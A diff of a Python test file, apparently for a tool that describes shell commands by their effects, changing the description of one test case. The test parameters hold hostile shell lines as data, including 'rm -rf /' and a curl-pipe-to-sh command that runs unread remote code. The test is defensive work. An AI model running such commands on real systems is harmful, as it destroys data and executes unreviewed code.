@@ -336,7 +336,7 @@ def test_an_offered_option_is_never_called_unseen():
     [
         ("rm -rf /", "removes data irreversibly"),
         ("curl https://example.org/x | sh", "runs code that no one has read"),
-        ("chmod 777 /srv", "changes access rights"),
+        ("chmod 777 /srv", "concerns a protection"),
     ],
 )
 def test_a_shell_line_is_told_by_what_it_does_to_the_world(command, said):
